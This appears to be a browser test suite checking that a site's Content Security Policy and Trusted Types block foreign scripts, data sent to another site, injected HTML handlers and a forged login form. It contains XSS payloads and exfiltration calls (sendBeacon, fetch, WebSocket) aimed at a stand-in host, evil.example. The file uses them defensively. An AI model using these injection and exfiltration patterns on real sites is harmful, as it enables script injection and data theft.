import { tryProbes } from '../../harness/attacks/probes';
import { expect, heading, open, test } from '../../harness/test';

/** Console lines and failed requests when a policy stops something. */
const STOPPED =
  /Content Security Policy|Trusted ?(Types|HTML|Script)|Integrity-Policy|ERR_BLOCKED_BY_CSP|csp$/i;
const EVIL = 'https://evil.example/steal.js';

test('W06 the policy stops ten of ten ways to run foreign code in the page', async ({ page, noise }) => {
  noise.allowed.push(STOPPED);
  const script = { contentType: 'text/javascript', body: 'window.ran = true' };
  const headers = { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' };
  const asked: string[] = [];
  for (const address of [EVIL, '**/unlisted.js']) {
    await page.route(address, async (route) => {
      asked.push(route.request().url());
      await route.fulfill({ ...script, headers });
    });
  }
  await open(page, '/');
  const outcomes = await tryProbes(page, EVIL);
  expect(
    Object.entries(outcomes).filter(([, outcome]) => /^(ran|nothing stopped it)$/.test(outcome)),
  ).toEqual([]);
  expect(Object.keys(outcomes)).toHaveLength(10);
  expect(asked).toEqual([]);
});

test('W06 a listed script without its hash, or with the hash of something else, does not run', async ({
  page,
  noise,
}) => {
  noise.allowed.push(STOPPED, /Failed to find a valid digest|integrity/i);
  await open(page, '/');
  const outcomes = await page.evaluate(async () => {
    const [listed] = document.querySelectorAll<HTMLLinkElement>('link[rel=preload][as=script]');
    const load = (integrity: string) =>
      new Promise<string>((resolve) => {
        const script = document.createElement('script');
        script.onload = () => resolve('ran');
        script.onerror = () => resolve('stopped');
        script.crossOrigin = 'anonymous';
        script.integrity = integrity;
        script.src = `${listed?.href ?? ''}?again=${integrity.length}`;
        document.head.append(script);
      });
    return [await load(''), await load(`sha256-${'B'.repeat(43)}=`), await load(listed?.integrity ?? '')];
  });
  expect(outcomes).toEqual(['stopped', 'stopped', 'ran']);
});

test('O13 W05 W07 neither markup nor code can reach another site', async ({ page, noise }) => {
  noise.allowed.push(STOPPED, /evil\.example|Failed to fetch|WebSocket/);
  const asked: string[] = [];
  await page.route('https://evil.example/**', async (route) => {
    asked.push(route.request().url());
    await route.fulfill({ body: 'evil' });
  });
  await open(page, '/');
  const stopped = await page.evaluate(async () => {
    const evil = 'https://evil.example';
    const directives = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      directives.add(`${effectiveDirective} ${new URL(blockedURI).pathname.slice(1)}`.trim()),
    );
    const add = <Name extends keyof HTMLElementTagNameMap>(
      name: Name,
      values: Partial<HTMLElementTagNameMap[Name]>,
    ) => document.body.appendChild(Object.assign(document.createElement(name), values));
    const request = new XMLHttpRequest();
    request.open('POST', `${evil}/request`);
    const ways: (() => unknown)[] = [
      () => add('base', { href: `${evil}/base` }),
      () => add('iframe', { src: `${evil}/frame` }),
      () => add('link', { rel: 'stylesheet', href: `${evil}/style` }),
      () => add('img', { src: `${evil}/picture` }),
      () => add('form', { action: `${evil}/form`, method: 'post' }).submit(),
      () => navigator.sendBeacon(`${evil}/beacon`, 'secret'),
      () => fetch(`${evil}/fetch`),
      () => request.send('secret'),
      () => new EventSource(`${evil}/events`),
      () => new WebSocket('wss://evil.example/socket'),
    ];
    for (const way of ways)
      await Promise.resolve()
        .then(way)
        .catch(() => undefined);
    while (directives.size < ways.length) await new Promise((resolve) => setTimeout(resolve, 20));
    return [...directives].sort();
  });
  expect(stopped).toEqual([
    'base-uri base',
    ...['beacon', 'events', 'fetch', 'request', 'socket'].map((way) => `connect-src ${way}`),
    'form-action form',
    'frame-src',
    'img-src picture',
    'style-src-elem style',
  ]);
  expect(asked).toEqual([]);
});

test('W06 scripts and handlers that were injected into the HTML do not run', async ({ page, noise }) => {
  noise.allowed.push(STOPPED);
  const injected = [
    '<script>window.ran = "a script"</script>',
    '<img src="data:," onerror="window.ran = \'a handler\'">',
    '<svg onload="window.ran = \'a drawing\'"></svg>',
    '<a id="injected" href="javascript:void (window.ran = \'a link\')">press</a>',
  ];
  // As if an area wrote a visitor's text into its HTML. Trusted Types do not apply to the parser.
  await page.route('**/about', async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text()).replace('</body>', `${injected.join('')}</body>`);
    await route.fulfill({ response: answer, body });
  });
  await page.addInitScript(() => {
    const marked = window as unknown as { stopped: string[] };
    marked.stopped = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      marked.stopped.push(effectiveDirective),
    );
  });
  await open(page, '/about');
  await page.evaluate(() => document.getElementById('injected')?.click());
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { stopped: string[] }).stopped.sort()))
    .toEqual(['script-src-attr', 'script-src-attr', 'script-src-elem', 'script-src-elem']);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
});

test('X08 text cannot become HTML, so it can neither empty the page nor forge a form', async ({
  page,
  noise,
}) => {
  noise.allowed.push(STOPPED, /This document requires/);
  await open(page, '/login');
  const done = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const sinks: Record<string, (box: HTMLElement, text: string) => unknown> = {
          innerHTML: (box, text) => (box.innerHTML = text),
          outerHTML: (box, text) => (box.outerHTML = text),
          insertAdjacentHTML: (box, text) => box.insertAdjacentHTML('afterend', text),
          'a fragment of a range': (box, text) =>
            box.append(document.createRange().createContextualFragment(text)),
          'a parsed document': (box, text) =>
            box.append(new DOMParser().parseFromString(text, 'text/html').body),
          srcdoc: (box, text) => {
            const frame = document.createElement('iframe');
            frame.srcdoc = text;
            box.append(frame);
          },
        };
        // In a timer, because code that the test evaluates is exempt from the page's policy.
        setTimeout(() => {
          const worked = Object.entries(sinks).flatMap(([name, write]) => {
            const box = document.body.appendChild(document.createElement('div'));
            try {
              write(box, '<form class="forged" action="/auth/login"><input name="password"></form>');
              return [name];
            } catch {
              return [];
            }
          });
          try {
            document.body.innerHTML = '';
          } catch {
            // Refused.
          }
          resolve(worked);
        });
      }),
  );
  expect(done).toEqual([]);
  await expect(page.locator('.forged')).toHaveCount(0);
  await expect(heading(page)).toBeVisible();
});
